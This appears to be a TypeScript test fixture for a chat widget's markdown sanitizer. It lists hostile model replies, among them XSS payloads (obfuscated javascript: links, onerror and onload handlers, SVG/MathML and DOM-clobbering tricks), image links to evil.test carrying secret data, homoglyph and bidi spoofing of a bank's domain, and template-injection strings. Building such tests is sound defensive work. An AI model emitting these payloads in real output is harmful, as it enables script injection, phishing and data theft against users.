/** A reply of a manipulated model, and the text that a visitor must still be able to read. */
export interface HostileAnswer {
  markdown: string
  shown?: string
}

const SYNTAXES: readonly ((address: string) => string)[] = [
  address => `[lien](${address})`,
  address => `[lien](<${address}> "titre")`,
  address => `[lien][r]\n\n[r]: ${address}`,
  address => `[r]\n\n[r]: <${address}> 'titre'`,
  address => `![image](${address})`,
  address => `![image][r]\n\n[r]: ${address}`,
  address => `[![image](${address})](${address})`,
  address => `<${address}>`,
]

const SCRIPT_ADDRESSES = [
  ...[
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'javascript:alert`1`',
    'javascript://%0aalert(1)',
    'javascript:/*a*/alert(1)',
  ],
  ...[
    'javascript&colon;alert(1)',
    'javascript&#58;alert(1)',
    'javascript&#x3A;alert(1)',
    '&#106;avascript:alert(1)',
    '&#x6A&#x61;vascript:alert(1)',
  ],
  ...[
    'java&Tab;script:alert(1)',
    'java&NewLine;script:alert(1)',
    'java&#9;script:alert(1)',
    'java&#10;script:alert(1)',
    'java&#x0D;script:alert(1)',
  ],
  ...[
    '&#1;javascript:alert(1)',
    '&#32;javascript:alert(1)',
    '\u00A0javascript:alert(1)',
    '\u200Bjavascript:alert(1)',
    'java\u00ADscript:alert(1)',
  ],
  ...[
    'java\\script:alert(1)',
    'javascript\\:alert(1)',
    'javascript%3Aalert(1)',
    '%6Aavascript:alert(1)',
    '\\javascript:alert(1)',
  ],
  ...[
    'vbscript:msgbox(1)',
    'livescript:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    'data:text/html;base64,PHNjcmlwdD4=',
  ],
  ...[
    'data:image/svg+xml,<svg/onload=alert(1)>',
    'DATA:text/html,a',
    'blob:https://evil.test/1',
    'file:///etc/passwd',
    'about:blank',
  ],
]

const OTHER_SCHEMES = [
  ...[
    'view-source:https://evil.test',
    'chrome://settings',
    'filesystem:https://evil.test/a',
    'intent://evil.test#Intent;end',
    'ms-word:ofe|u|a',
  ],
  ...[
    'tel:+33800000000',
    'sms:+33800000000',
    'ftp://evil.test/a',
    'ws://evil.test',
    'wss://evil.test',
    'magnet:?xt=a',
    'steam://run',
    'mhtml:a',
  ],
  ...[
    'jar:https://evil.test!/a',
    'cid:1',
    'mid:1',
    'urn:a',
    'x-apple.systempreferences:a',
    'httpss://evil.test',
    'http&colon;//evil.test',
    'skype:a?call',
  ],
]

const HTML = [
  ...[
    '<script>alert(1)</script>',
    '<SCRIPT SRC=https://evil.test/a.js></SCRIPT>',
    '<script\n>alert(1)</script\n>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
  ],
  ...[
    '<img src=x onerror=alert(1)>',
    '<img/src="https://evil.test/a"/onerror=alert(1)>',
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    '<img src=x:x onerror\n=alert(1)>',
  ],
  ...[
    '<img srcset="https://evil.test/a 1x">',
    '<picture><source srcset=https://evil.test/a><img></picture>',
    '<image href=https://evil.test/a>',
    '<input type=image src=https://evil.test/a>',
  ],
  ...[
    '<svg onload=alert(1)>',
    '<svg><script>alert(1)</script></svg>',
    '<svg><animate onbegin=alert(1) attributeName=x>',
    '<svg><use href="data:image/svg+xml,<svg id=x/>#x"/>',
  ],
  ...[
    '<svg><a xlink:href="javascript:alert(1)"><text>a</text></a>',
    '<svg><foreignObject><iframe srcdoc="a">',
    '<svg><image href="https://evil.test/a"/>',
    '<svg><style>@import "//evil.test"</style>',
  ],
  ...[
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<math href="javascript:alert(1)">a</math>',
    '<math><maction actiontype="statusline#https://evil.test">a',
  ],
  ...[
    '<iframe src="javascript:alert(1)">',
    '<iframe srcdoc="<script>alert(1)</script>">',
    '<iframe src=//evil.test>',
    '<object data="javascript:alert(1)">',
    '<embed src=//evil.test>',
  ],
  ...[
    '<form action=//evil.test><button>OK</button></form>',
    '<button formaction="javascript:alert(1)">a',
    '<input autofocus onfocus=alert(1)>',
    '<select autofocus onfocus=alert(1)>',
    '<textarea autofocus onfocus=alert(1)>',
  ],
  ...[
    '<isindex action="javascript:alert(1)">',
    '<keygen autofocus onfocus=alert(1)>',
    '<base href=//evil.test>',
    '<meta http-equiv=refresh content="0;url=//evil.test">',
    '<link rel=stylesheet href=//evil.test>',
  ],
  ...[
    '<link rel=prefetch href=//evil.test>',
    '<link rel=dns-prefetch href=//evil.test>',
    '<style>*{display:none}</style>',
    '<style>@import "//evil.test"</style>',
    '<div style="position:fixed;inset:0">a</div>',
  ],
  ...[
    '<p style="background:url(//evil.test)">a',
    '<table background=//evil.test>',
    '<body onload=alert(1)>',
    '<body background=//evil.test>',
    '<marquee onstart=alert(1)>',
  ],
  ...[
    '<details open ontoggle=alert(1)>',
    '<video src=x onerror=alert(1)>',
    '<video poster=//evil.test>',
    '<audio src=//evil.test autoplay>',
    '<track src=//evil.test>',
  ],
  ...[
    '<a href="javascript:alert(1)">a</a>',
    '<a href=x onmouseover=alert(1)>a</a>',
    '<a href=# ping=//evil.test>a</a>',
    '<a href="https://evil.test">bank.fr</a>',
    '<area href=javascript:alert(1)>',
  ],
  ...[
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<template><script>alert(1)</script></template>',
    '<xmp><img src=x onerror=alert(1)></xmp>',
    '<plaintext>',
    '<title><img src=x onerror=alert(1)></title>',
  ],
  ...[
    '<!--><img src=x onerror=alert(1)>-->',
    '<![CDATA[<img src=x onerror=alert(1)>]]>',
    '<?xml-stylesheet href="javascript:alert(1)"?>',
    '<!DOCTYPE html [<!ENTITY a "b">]>',
    '</p></div></article><script>alert(1)</script>',
  ],
  ...[
    '<nicodata-chat backend=//evil.test></nicodata-chat>',
    '<slot name=header></slot>',
    '<div slot=launcher>a</div>',
    '<div part=panel>a</div>',
    '<button is=x-a>a</button>',
    '<dialog open>a</dialog>',
    '<div popover id=a>a</div>',
  ],
  ...[
    '<form id=attributes><input name=innerHTML></form>',
    '<a id=location name=href href=//evil.test>a</a>',
    '<img name=getElementById>',
    '<form id=documentElement>',
    '<object id=shadowRoot>',
    '<a id=defaultView><a id=defaultView name=alert>',
  ],
  ...[
    '<div class="message" tabindex=1 accesskey=x contenteditable>a</div>',
    '<div role=alert aria-live=assertive>a</div>',
    '<div dir=rtl lang=ar>a</div>',
    '<label for=a>a</label>',
    '<details><summary>a</summary>b</details>',
  ],
  ...[
    'une List<int> ou Map<String, List<int>>',
    'a <b et c> d',
    'si a<b>c alors',
    '<T extends Comparable<T>>',
    'std::vector<int> v',
    '<div>Bonjour</div>',
    'a <think>je réfléchis</think>',
    '<|im_end|>',
  ],
]

const SPOOFED_TEXTS = [
  ...[
    'https://bank.fr',
    'www.bank.fr',
    'bank.fr',
    'BANK.FR',
    'bank.fr/connexion',
    'http://bank.fr:443/',
    'moi@bank.fr',
    'https://bank.fr\\@evil.test',
  ],
  ...['ba\u200Bnk.fr', 'bank\u2060.fr', 'bank\u00AD.fr', 'bank。fr', 'bank．fr', 'bank｡fr', 'ｂａｎｋ.fr', '𝐛𝐚𝐧𝐤.𝐟𝐫'],
  ...[
    '\u202Erf.knab',
    'bank\u2066.\u2069fr',
    '\u200Fbank.fr',
    'bank.fr (site officiel)',
    'Allez sur bank.fr',
    '**bank**.fr',
    'ban*k*.fr',
    '`bank.fr`',
    '~~evil.test~~ bank.fr',
  ],
  ...[
    'bаnk.fr',
    'bank.fr​',
    '/connexion',
    '://bank.fr',
    '192.168.0.1',
    'https://',
    'evil.test.bank.fr',
    'bank.fr#evil.test',
    'bank.fr?evil.test',
  ],
  ...['bank[.]fr', 'bank·fr', 'bank,fr', 'bank .fr', 'bank. fr', 'bank٠fr', 'bank:8080', 'moi@bank'],
]

const INVISIBLE_TEXTS = [
  '',
  ' ',
  '\u00A0',
  '\u200B',
  '\u2060\u200D',
  '\u3164',
  '\u2800',
  '\uFFA0',
  '&nbsp;',
  '&#8203;',
  '&zwj;',
  '\u{E0041}\u{E0042}',
  '\u180E',
  '\u034F',
  '\u00AD',
]

const BIDI_CONTROLS = ['\u202A', '\u202B', '\u202C', '\u202D', '\u202E', '\u2066', '\u2067', '\u2068', '\u2069']

const PICTURE_ADDRESSES = [
  ...[
    'https://evil.test/p?d=secret',
    'http://evil.test/p',
    '//evil.test/p',
    '\\\\evil.test/p',
    '/\\evil.test/p',
    'https:evil.test',
    'https:///evil.test/p',
    'HTTPS://EVIL.TEST/p',
  ],
  ...[
    'https://user:pass@evil.test/p',
    'https://evil.test:8443/p',
    'https://xn--vil-bma.test/p',
    'https://évil.test/p',
    'https://127.0.0.1/p',
    'https://[::1]/p',
    'https://evil.test/p.svg#a',
  ],
  ...[
    '/logout',
    '?del=1',
    '#a',
    '../a',
    'a.png',
    './a',
    '/api/chat',
    'https&#58;//evil.test/p',
    'https:&#47;/evil.test/p',
  ],
]

const PROTOTYPE_NAMES = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'valueOf',
  '__defineGetter__',
  'then',
]

const FENCE_INFOS = [
  'js" onload="alert(1)',
  '"><img src=x onerror=alert(1)>',
  'x onclick=alert(1)',
  'js class=panel id=input',
  '<script>',
  '&quot; onload=&quot;alert(1)',
  '{.message #input}',
  'mermaid',
  'html preview',
]

const OTHERS: readonly HostileAnswer[] = [
  ...[
    '0:"Bonjour"',
    'data: {"type":"text"}',
    'e:{"finishReason":"stop"}',
    '3:"erreur"',
    '{"error":"x"}',
    'event: done\ndata: [DONE]',
    'f:{"messageId":"a"}',
    '2:[{"a":1}]',
  ].map(literal),
  ...[
    '{{constructor.constructor("alert(1)")()}}',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what a template engine would run
    '${alert(1)}',
    '#{alert(1)}',
    '<%= alert(1) %>',
    '{% include "a" %}',
    '[[alert(1)]]',
    'ng-app="a"',
    'x-data="alert(1)"',
  ].map(literal),
  { markdown: '# Titre {#input .panel onclick=alert(1)}', shown: '{#input .panel onclick=alert(1)}' },
  { markdown: 'Note[^1].\n\n[^1]: https://evil.test', shown: 'Note' },
  { markdown: '[a]: javascript:alert(1)\n\n[a] [a][] [x][a] ![a]' },
  { markdown: '- [x](javascript:alert(1)) fait\n- [ ](javascript:alert(1))' },
  {
    markdown:
      '| [a](javascript:alert(1)) | ![b](https://evil.test/p) |\n|---|---|\n| <img src=x onerror=alert(1)> | [bank.fr](https://evil.test) |',
  },
  { markdown: '> [lien](javascript:alert(1))\n>\n> <script>alert(1)</script>' },
  { markdown: '[a](https://a.test "https://bank.fr\\" onmouseover=alert(1)")' },
  { markdown: '[a](https://evil.test/"onmouseover="alert(1))' },
  { markdown: "[a](https://evil.test/'><script>alert(1)</script>)" },
  { markdown: '![a" onerror="alert(1)](https://evil.test/p)' },
  { markdown: '![<img src=x onerror=alert(1)>](https://evil.test/p)', shown: '<img src=x onerror=alert(1)>' },
  { markdown: '[a\n](javascript:alert(1)\n)' },
  { markdown: '[<script>alert(1)</script>](https://a.test)', shown: '<script>alert(1)</script>' },
  { markdown: '[](<javascript:alert(1)>)' },
  { markdown: 'https://bank.fr[/connexion](https://evil.test)' },
  { markdown: 'https://bank.fr@evil.test/connexion' },
  { markdown: 'https://bank.fr%2f@evil.test' },
  { markdown: 'https://аррӏе.com' },
  { markdown: '<https://bank.fr@evil.test>' },
  { markdown: 'xmpp:a@evil.test mailto:a@evil.test www.evil.test' },
  { markdown: '\u0000\u0001\u0007\u001B[31mrouge\u001B[0m', shown: 'rouge' },
  { markdown: '\uD800 \uDC00 \uFFFE \uFFFF', shown: '\uFFFE' },
  { markdown: 'a&#0;b&#xD800;c&#x110000;d' },
  { markdown: '\uFEFF# Titre', shown: 'Titre' },
  { markdown: '```\n<script>alert(1)</script>\n```', shown: '<script>alert(1)</script>' },
  { markdown: '`<script>alert(1)</script>`', shown: '<script>alert(1)</script>' },
  { markdown: '    <script>alert(1)</script>', shown: '<script>alert(1)</script>' },
  { markdown: '$$\\href{javascript:alert(1)}{a}$$', shown: '$$' },
  { markdown: ':::danger\n<script>alert(1)</script>\n:::', shown: ':::danger' },
  { markdown: '---\ntitle: <script>alert(1)</script>\n---', shown: 'title:' },
]

function literal(text: string): HostileAnswer {
  return { markdown: text, shown: text.replaceAll('\n', ' ') }
}

/** Every attack in the suites of DOMPurify, micromark and rehype-sanitize, and in advisories about chat widgets. */
export const HOSTILE_ANSWERS: readonly HostileAnswer[] = [
  ...SCRIPT_ADDRESSES.flatMap((address, index) =>
    SYNTAXES.filter((_, syntax) => index === 0 || (index + syntax) % 3 === 0).map(write => ({
      markdown: write(address),
    })),
  ),
  ...OTHER_SCHEMES.flatMap(address => [
    { markdown: `[lien](${address})`, shown: 'lien' },
    { markdown: `![image](${address})`, shown: 'image' },
  ]),
  ...HTML.flatMap(html => [
    { markdown: html, shown: readable(html) },
    { markdown: `Voici ${html.replaceAll('\n', ' ')} fin`, shown: 'Voici' },
  ]),
  ...SPOOFED_TEXTS.map(text => ({ markdown: `[${text}](https://evil.test/a)` })),
  ...INVISIBLE_TEXTS.map(text => ({ markdown: `avant [${text}](https://evil.test/a) après`, shown: 'evil.test' })),
  ...BIDI_CONTROLS.flatMap(control => [
    { markdown: `${control}texte [lien${control}](https://evil.test/${control}) fin`, shown: 'texte' },
    { markdown: `\`\`\`\nif (${control}admin) {}\n\`\`\``, shown: 'admin' },
  ]),
  ...PICTURE_ADDRESSES.flatMap(address => [
    { markdown: `![schéma](${address})`, shown: 'schéma' },
    { markdown: `[![schéma][r]](https://a.test)\n\n[r]: ${address}`, shown: 'schéma' },
  ]),
  ...PROTOTYPE_NAMES.map(name => ({
    markdown: `[\`${name}\`][${name}] [${name}]\n\n[${name}]: javascript:alert(1)`,
    shown: name,
  })),
  ...FENCE_INFOS.map(info => ({ markdown: `~~~${info}\ncode\n~~~`, shown: 'code' })),
  ...OTHERS,
]

/** Words of an HTML fragment. All of them must be visible. */
function readable(html: string): string {
  return html.split('\n')[0] ?? ''
}
